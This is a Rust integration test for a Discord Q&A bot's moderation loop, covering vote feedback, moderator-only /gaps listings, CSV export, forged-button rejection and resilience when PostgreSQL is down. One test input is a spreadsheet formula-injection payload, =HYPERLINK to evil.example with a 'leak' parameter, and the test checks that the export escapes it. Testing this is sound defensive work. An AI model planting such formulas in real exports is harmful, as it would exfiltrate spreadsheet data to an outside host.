//! The moderators' loop end to end over the HTTP interactions endpoint (signed requests on
//! loopback): questions are logged, an answer is voted 👎 with a reason through the form, and
//! `/gaps` shows the unanswered and the 👎 question with its reason to a moderator only. Run on
//! SQLite, and on PostgreSQL when `DOSSIER_TEST_POSTGRES` holds a URL (`.ci/run` sets it).

use crate::common;
use crate::fake_discord;

use std::sync::Arc;
use std::time::Duration;

use crate::fake_discord::{FakeDiscord, MANAGE_GUILD};
use dossier::bot::App;
use dossier::bot::feedback::Feedback;
use dossier::bot::transport::http;
use dossier::config::{CooldownRule, Settings};
use dossier::store::{Store, UserHasher};
use serde_json::{Value, json};

mod moderation;

struct Bot {
    url: String,
    client: reqwest::Client,
    _index: tempfile::TempDir,
}

impl Bot {
    async fn start(fake: &FakeDiscord, store: Store) -> Bot {
        Bot::start_over(fake, store, std::path::Path::new(common::DATA)).await
    }

    async fn start_over(fake: &FakeDiscord, store: Store, data: &std::path::Path) -> Bot {
        let (engine, index) = common::engine_over(data);
        let settings = Settings {
            public_key: Some(fake_discord::public_key_hex()),
            application_id: Some(fake_discord::APP_ID.parse().unwrap()),
            api_proxy: Some(fake.rest.clone()),
            admin_guilds: vec![fake_discord::GUILD_ID.parse().unwrap()],
            cooldown: CooldownRule {
                commands: 1000,
                window: Duration::from_secs(10),
            },
            ..Settings::default()
        };
        let app = App::new(Arc::new(engine), settings).with_feedback(Feedback {
            store,
            hasher: UserHasher::new(b"test key"),
            log_questions: true,
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(http::run(app, listener, Box::pin(std::future::pending())));
        Bot {
            url,
            client: reqwest::Client::new(),
            _index: index,
        }
    }

    async fn send(&self, body: &Value) -> Value {
        fake_discord::check_fixture(body);
        let bytes = body.to_string().into_bytes();
        let (status, reply) =
            fake_discord::post_signed(&self.client, &self.url, &bytes, fake_discord::now_secs())
                .await;
        assert_eq!(status, 200, "{reply}");
        reply
    }

    async fn ask(&self, question: &str) -> Value {
        let token = fake_discord::token();
        let body = fake_discord::ask(&token, question);
        self.send(&body).await
    }
}

/// The custom ids of the buttons of a message reply.
fn buttons(reply: &Value) -> Vec<String> {
    reply["data"]["components"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|row| row["components"].as_array().cloned().unwrap_or_default())
        .filter_map(|b| b["custom_id"].as_str().map(str::to_string))
        .collect()
}

async fn the_loop(store: Store) {
    let fake = FakeDiscord::start().await;
    let bot = Bot::start(&fake, store).await;

    let answered = bot
        .ask("When did Russia lift its arms embargo on Pakistan?")
        .await;
    let ids = buttons(&answered);
    assert_eq!(
        ids.len(),
        3,
        "👍, 👎 and a follow-up under an answer: {answered}"
    );
    let down = ids
        .iter()
        .find(|id| id.starts_with("f:0:"))
        .unwrap()
        .clone();
    let refused = bot
        .ask("What did the Iranian ambassador say about the pipeline?")
        .await;
    assert!(
        !buttons(&refused).iter().any(|id| id.starts_with("f:")),
        "no votes on a refusal (a follow-up may rephrase it): {refused}"
    );

    // 👎 is stored, then the form asks why (a modal, type 9).
    let form = bot
        .send(&fake_discord::component(&fake_discord::token(), &down))
        .await;
    assert_eq!(form["type"], 9, "{form}");
    let form_id = form["data"]["custom_id"].as_str().unwrap().to_string();
    // The form sent empty is a 👎 without a reason: acknowledged, never a second form (Discord
    // allows no form in answer to a form).
    let empty = bot
        .send(&fake_discord::form_submit(
            &fake_discord::token(),
            &form_id,
            "  ",
        ))
        .await;
    assert_eq!(empty["type"], 4, "{empty}");
    assert_eq!(empty["data"]["flags"], 64, "{empty}");
    let thanks = bot
        .send(&fake_discord::form_submit(
            &fake_discord::token(),
            &form_id,
            // A spreadsheet formula as the reason: the CSV export must not keep it live.
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"wrong date\")",
        ))
        .await;
    assert_eq!(
        thanks["data"]["flags"], 64,
        "acknowledged ephemerally: {thanks}"
    );
    assert!(
        thanks["data"]["content"]
            .as_str()
            .unwrap()
            .contains("wrong date"),
        "{thanks}"
    );

    // The log is written in the background; /gaps as a moderator shows both questions.
    let mut listed = String::new();
    let mut export = None;
    for _ in 0..100 {
        let token = fake_discord::token();
        let deferred = bot
            .send(&fake_discord::command(
                &token,
                "gaps",
                &[],
                MANAGE_GUILD,
                &[],
            ))
            .await;
        assert_eq!(
            (&deferred["type"], &deferred["data"]["flags"]),
            (&serde_json::json!(5), &serde_json::json!(64)),
            "moderators see gaps alone, after a deferral: {deferred}"
        );
        let gaps = serde_json::json!({"data": fake.edited(&token).await.body});
        listed = gaps["data"]["embeds"][0].to_string();
        export = buttons(&gaps).into_iter().find(|id| id.starts_with("c:"));

        if listed.contains("Iranian ambassador") && listed.contains("wrong date") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(listed.contains("Iranian ambassador"), "{listed}");
    assert!(listed.contains("arms embargo"), "{listed}");
    assert!(listed.contains("wrong date"), "{listed}");

    // "Export CSV" attaches every gap to the edit of a deferral; moderators only.
    let export = export.expect("an Export CSV button under /gaps");
    let refused = bot
        .send(&fake_discord::component(&fake_discord::token(), &export))
        .await;
    assert!(refused.to_string().contains("Only moderators"), "{refused}");
    let token = fake_discord::token();
    let deferred = bot
        .send(&fake_discord::component_by(&token, &export, MANAGE_GUILD))
        .await;
    assert_eq!(deferred["type"], 5, "{deferred}");
    let edited = fake.edited(&token).await;
    let [(name, csv)] = edited.files.as_slice() else {
        panic!("one file: {edited:?}");
    };
    assert_eq!(name, "dossier-gaps-7d.csv");
    let csv = String::from_utf8(csv.clone()).unwrap();
    assert!(
        csv.starts_with("question,count,unanswered,unsure,down_votes,reasons,last_asked\n"),
        "{csv}"
    );
    assert!(
        csv.contains("Iranian ambassador") && csv.contains("wrong date"),
        "{csv}"
    );
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
        "the formula is kept as text: {csv}"
    );
    assert!(
        !cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])),
        "no live formula: {csv}"
    );
    assert_eq!(
        edited.body["attachments"][0]["filename"], "dossier-gaps-7d.csv",
        "{}",
        edited.body
    );

    let refused = bot
        .send(&fake_discord::command(
            &fake_discord::token(),
            "gaps",
            &[],
            "0",
            &[],
        ))
        .await;
    assert!(
        refused["data"]["content"]
            .as_str()
            .unwrap()
            .contains("Only moderators"),
        "{refused}"
    );
    // A forged vote button is refused before anything is stored.
    let forged = bot
        .send(&fake_discord::component(
            &fake_discord::token(),
            "f:7:99999999999999999999999",
        ))
        .await;
    assert!(
        forged["data"]["content"]
            .as_str()
            .unwrap()
            .contains("no longer valid")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn votes_and_gaps_reach_moderators_on_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path().join("dossier.db").to_str().unwrap()).unwrap();
    the_loop(store).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn votes_and_gaps_reach_moderators_on_postgres() {
    let Ok(url) = std::env::var("DOSSIER_TEST_POSTGRES") else {
        eprintln!("DOSSIER_TEST_POSTGRES not set: the PostgreSQL run is .ci/run's");
        return;
    };
    the_loop(Store::open(&url).unwrap()).await;
}

/// PostgreSQL stopped mid-run: answers keep coming, each as fast as before (the log rows are
/// dropped and counted, never waited for), and the writer writes again once the server is
/// back. Runs where `.ci/postgres` can start servers (`DOSSIER_TEST_POSTGRES` set).
#[test]
fn answers_flow_while_postgres_is_down_and_the_log_recovers() {
    if std::env::var("DOSSIER_TEST_POSTGRES").is_err() {
        eprintln!("DOSSIER_TEST_POSTGRES not set: the PostgreSQL run is .ci/run's");
        return;
    }
    common::own_postgres("25433", &["stop"]);
    let url = common::own_postgres("25433", &[]);
    let store = Store::open(&url).unwrap();
    let (engine, _index) = common::article_engine();
    let app = App::new(Arc::new(engine), Settings::default()).with_feedback(Feedback {
        store: store.clone(),
        hasher: UserHasher::new(b"test key"),
        log_questions: true,
    });
    let origin = dossier::bot::command::Origin {
        transport: dossier::store::Transport::Gateway,
        user: 42,
        guild: None,
        channel: None,
    };
    let ask = |n: usize| {
        let request = dossier::bot::command::Request {
            origin: Some(origin),
            ..dossier::bot::command::Request::new(dossier::bot::command::Command::Ask {
                question: format!(
                    "When did Russia lift its arms embargo on Pakistan? {}",
                    "!".repeat(n % 20)
                ),
                after: None,
            })
        };
        let started = std::time::Instant::now();
        let reply = app.execute(&request);
        let answered =
            matches!(&reply.body, dossier::bot::reply::Body::Answer(a, _) if !a.hits.is_empty());
        assert!(answered, "question {n} not answered: {:?}", reply.body);
        started.elapsed()
    };
    let slowest = |range: std::ops::Range<usize>| range.map(ask).max().unwrap();
    let up = slowest(0..50);
    common::own_postgres("25433", &["stop"]);
    let down = slowest(50..250);
    eprintln!("slowest answer with the server up {up:?}, down {down:?}");
    assert!(
        down < up + Duration::from_millis(200),
        "answers waited on the database: {down:?} down vs {up:?} up"
    );
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while store.dropped() == 0 && std::time::Instant::now() < deadline {
        ask(0);
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        store.dropped() > 0,
        "rows written while the server was down?"
    );
    common::own_postgres("25433", &["start"]);
    let back = dossier::store::now();
    let written = loop {
        ask(1);
        let written = store.figures(back).map_or(0, |f| f.questions);
        if written > 0 || std::time::Instant::now() > deadline + Duration::from_secs(20) {
            break written;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    common::own_postgres("25433", &["stop"]);
    eprintln!(
        "dropped while down: {}; written after restart: {written}",
        store.dropped()
    );
    assert!(written > 0, "the writer did not recover");
}
